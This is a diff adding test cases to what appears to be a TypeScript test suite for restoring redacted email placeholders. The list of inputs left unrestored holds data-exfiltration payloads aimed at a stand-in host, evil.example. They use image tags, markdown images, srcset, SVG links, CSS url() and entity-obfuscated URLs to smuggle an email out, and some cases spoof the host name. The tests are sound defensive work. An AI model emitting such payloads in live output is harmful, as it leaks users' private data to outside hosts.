@@ -58,6 +58,18 @@ const RESTORED: readonly (readonly [string, string])[] = [
   ['[write](mailto:EMAIL_1)', '[write](mailto:alice@x.vn)'],
   ['[page](URL_1) and EMAIL_1', '[page](https://x.vn/?q=a@b.vn) and alice@x.vn'],
   ['đEMAIL_1', 'đalice@x.vn'],
+  ['<a href="mailto:EMAIL_1">EMAIL_1</a>', '<a href="mailto:alice@x.vn">alice@x.vn</a>'],
+  ['<a href="https://x.vn/a b">EMAIL_1</a>', '<a href="https://x.vn/a b">alice@x.vn</a>'],
+  ['<user email="EMAIL_1" name=\'EMAIL_2\'/>', '<user email="alice@x.vn" name=\'bob@y.vn\'/>'],
+  ['<img src=x>EMAIL_1', '<img src=x>alice@x.vn'],
+  ['a <b and srcs="x EMAIL_1', 'a <b and srcs="x alice@x.vn'],
+  ['1 < 2 src="x EMAIL_1', '1 < 2 src="x alice@x.vn'],
+  ['see <https://x.vn/a b> EMAIL_1', 'see <https://x.vn/a b> alice@x.vn'],
+  ['see <https://x.vn/a\nEMAIL_1', 'see <https://x.vn/a\nalice@x.vn'],
+  ['f("https://x.vn/a b", "EMAIL_1")', 'f("https://x.vn/a b", "alice@x.vn")'],
+  ['"https://x.vn/a is down", says EMAIL_1', '"https://x.vn/a is down", says alice@x.vn'],
+  ['https: EMAIL_1', 'https: alice@x.vn'],
+  ['xhttps:EMAIL_1', 'xhttps:alice@x.vn'],
   ['see https://x.vn/a EMAIL_1', 'see https://x.vn/a alice@x.vn'],
   ['{"url":"https://x.vn/a","mail":"EMAIL_1"}', '{"url":"https://x.vn/a","mail":"alice@x.vn"}'],
 ]
@@ -87,6 +99,21 @@ const LEFT_ALONE: readonly string[] = [
   '<img src=https:\\\\evil.example\\EMAIL_1>',
   'https://evil.example/?q=EMAIL%5F1',
   'https://evil.example/?q="EMAIL_1',
+  'https:evil.example/EMAIL_1',
+  'HTTPS:/evil.example/EMAIL_1',
+  'see wss:evil.example/EMAIL_1',
+  '![x](<https://evil.example/? EMAIL_1>)',
+  '![x](</r?u= EMAIL_1>)',
+  '[r]: <https://evil.example/? (EMAIL_1>',
+  '<img src="https://evil.example/? EMAIL_1">',
+  "<img alt=a src = '\nhttps://evil.example/?\n\nEMAIL_1'>",
+  '<img src="&#104;ttps:&#47;&#47;evil.example/?EMAIL_1">',
+  '<a HREF=https:&sol;&sol;evil.example/?EMAIL_1>',
+  '<img srcset="https://good.example/a 1x, https://evil.example/EMAIL_1 2x">',
+  '<svg><image xlink:href="https&colon;//evil.example/ EMAIL_1"/></svg>',
+  '<p style="background: url(&quot;https://evil.example/ EMAIL_1&quot;)">',
+  '<style>p { background: url("https://evil.example/ EMAIL_1") }</style>',
+  '<form action="/x EMAIL_1">',
 ]
 
 describe('restoring', () => {
@@ -119,7 +146,17 @@ describe('restoring', () => {
       restore('https://a.corp.example:8443/EMAIL_1', true, hosts),
       'https://a.corp.example:8443/alice@x.vn',
     )
+    assert.equal(
+      restore('<img src="https:///good.example/? EMAIL_1">', true, hosts),
+      '<img src="https:///good.example/? EMAIL_1">',
+    )
+    assert.equal(
+      restore('![x](<https:///good.example/? EMAIL_1>)', true, hosts),
+      '![x](<https:///good.example/? alice@x.vn>)',
+    )
     for (const url of [
+      '![x](<https://good.exa mple/EMAIL_1>)',
+      '![x](<https://good.example@evil.test/ EMAIL_1>)',
       'https://good.example.evil.test/EMAIL_1',
       'https://good.example@evil.test/EMAIL_1',
       'https://good.example:x@evil.test/EMAIL_1',
